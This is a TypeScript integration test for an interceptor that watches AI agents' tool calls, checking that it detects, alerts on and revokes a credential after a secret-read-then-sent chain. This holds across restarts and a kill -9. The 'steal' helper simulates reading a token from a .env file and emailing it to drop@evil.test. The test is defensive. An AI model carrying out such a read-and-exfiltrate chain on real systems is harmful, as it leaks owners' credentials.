import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  CallRefusedError,
  type ConnectedInterceptor,
  connectInterceptor,
  wrapTool,
} from "@tripline/interceptor";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Broker, startBroker } from "../infra/kafka/broker.ts";
import { requirement } from "./support/requirements.ts";
import { type Standalone, startStandalone } from "./support/standalone.ts";
import { storedRecords } from "./support/stored-records.ts";
import { waitFor } from "./support/wait-for.ts";

const BROKER_PORT = 21_240; // and its controller on the next
const PORT = 21_242; // the same at each start: an interceptor knows one address
const RULE = "secret-read-then-sent";
const SECRET = `ghp_${"k3JvQ8sLx1TzR7mWc5Yb"}${"N2dHf6PgA9eUi4Xo"}`;
const THIEVES = ["local:thief-1", "local:thief-2"];
const ARRIVE_MS = 30_000; // consumer groups of a broker that has just started take their time

interface Revocation {
  id: string;
  subject: string;
  alert_id: string | null;
}

describe.skipIf(requirement("kafka").missing)("Kafka carries the standalone", () => {
  const folder = mkdtempSync(join(tmpdir(), "tripline-kafka-"));
  const data = join(folder, "data");
  let broker: Broker;
  let service: Standalone;
  let interceptor: ConnectedInterceptor;
  let calls = 0;

  const start = () =>
    startStandalone({
      data,
      port: PORT,
      env: { TRIPLINE_LOG: `kafka://${broker.address}`, TRIPLINE_KAFKA_CREATE_TOPICS: "true" },
    });

  function tools(credential: string) {
    const options = {
      interceptor,
      server: "desk",
      caller: { credential, assurance: "verified" } as const,
      session: { id: `of ${credential}`, source: "conversation" } as const,
    };
    const counted = <A, R>(tool: (args: A) => Promise<R>) => {
      return async (args: A): Promise<R> => {
        calls += 1;
        return await tool(args);
      };
    };
    return {
      read: wrapTool(
        "read_text_file",
        counted(async (_: { path: string }) => `TOKEN=${SECRET}`),
        options,
      ),
      send: wrapTool(
        "send_email",
        counted(async (_: { to: string; body: string }) => "sent"),
        options,
      ),
    };
  }

  /** Reads a secret, sends it out, and goes on until it is refused. */
  async function steal(credential: string): Promise<void> {
    const { read, send } = tools(credential);
    await read({ path: "/srv/app/.env" });
    await send({ to: "drop@evil.test", body: SECRET });
    await waitFor(
      () =>
        read({ path: "/srv/app/notes.txt" }).then(
          () => false,
          (error: unknown) => error instanceof CallRefusedError,
        ),
      { what: `${credential} to be refused`, timeoutMs: ARRIVE_MS },
    );
  }

  async function revocations(): Promise<Revocation[]> {
    return (await service.json<{ revocations: Revocation[] }>("/api/revocations")).revocations;
  }

  /** All calls that went through, each once; and one alert and one revocation for each of these credentials. */
  async function holds(credentials: string[]): Promise<void> {
    const served = await waitFor(
      async () => {
        const rows = (await storedRecords(service, "producer=desk&type=call")).filter(
          (row) => row.outcome === "ok",
        );
        return rows.length >= calls ? rows : null;
      },
      { what: "every call to be stored", timeoutMs: ARRIVE_MS },
    );
    expect(served).toHaveLength(calls);
    expect(new Set(served.map((row) => row.call_id)).size).toBe(calls);
    const all = await waitFor(
      async () => {
        const found = await revocations();
        return found.length >= credentials.length ? found : null;
      },
      { what: "every revocation to be stored", timeoutMs: ARRIVE_MS },
    );
    expect(all.map(({ subject }) => subject).sort()).toEqual(credentials);
    for (const { subject, alert_id } of all) {
      // The topics are archived apart: an alert may be stored behind the revocation that followed from it.
      const found = await waitFor(
        async () => {
          const { alerts } = await service.json<{ alerts: { id: string }[] }>(
            `/api/alerts?rule=${RULE}&credential=${subject}`,
          );
          return alerts.length > 0 ? alerts : null;
        },
        { what: "its alert to be stored", timeoutMs: ARRIVE_MS },
      );
      expect(found.map(({ id }) => id)).toEqual([alert_id]);
    }
  }

  beforeAll(async () => {
    broker = await startBroker({ port: BROKER_PORT, dataDir: join(folder, "kafka") });
    mkdirSync(data, { mode: 0o700 });
    writeFileSync(
      join(data, "response.yaml"),
      `automatic_revocation:\n  rules:\n    ${RULE}: { enabled: true }\n`,
      { mode: 0o600 },
    );
    service = await start();
    const { key } = await service.json<{ key: string }>("/v1/producers", {
      method: "POST",
      body: JSON.stringify({ id: "desk", issuers: [], credentials: THIEVES }),
    });
    interceptor = await connectInterceptor({
      url: service.url,
      ingestKey: key,
      stateDir: join(folder, "agent"),
      onWarning: () => undefined,
    });
  }, 120_000);

  afterAll(async () => {
    await interceptor?.close(1_000);
    await service?.dispose();
    await broker?.kill();
    rmSync(folder, { recursive: true, force: true });
  });

  it("stops a dangerous chain that comes in over HTTP", { timeout: 60_000 }, async () => {
    await steal("local:thief-1");
    await holds(["local:thief-1"]);
  });

  it("goes on after a stop and a start, and says nothing twice", { timeout: 90_000 }, async () => {
    expect(await service.stop(), service.output()).toBe(0);
    const { read } = tools("local:thief-2");
    await read({ path: "/srv/app/while-it-was-down.txt" });
    await expect(tools("local:thief-1").read({ path: "/" }), "refused from memory").rejects.toThrow(
      CallRefusedError,
    );
    service = await start();
    await steal("local:thief-2");
    await holds(THIEVES);
  });

  it("goes on after kill -9, where it was", { timeout: 90_000 }, async () => {
    await service.stop("SIGKILL");
    service = await start();
    await holds(THIEVES);
    await expect(tools("local:thief-2").send({ to: "a@b.test", body: "again" })).rejects.toThrow(
      CallRefusedError,
    );
    const denied = await waitFor(
      async () => {
        const rows = await storedRecords(service, "producer=desk&type=call&outcome=denied");
        return rows.some((row) => row.tool === "send_email") ? rows : null;
      },
      { what: "the refusal to be stored", timeoutMs: ARRIVE_MS },
    );
    expect(new Set(denied.map((row) => row.call_id)).size).toBe(denied.length);
  });
});
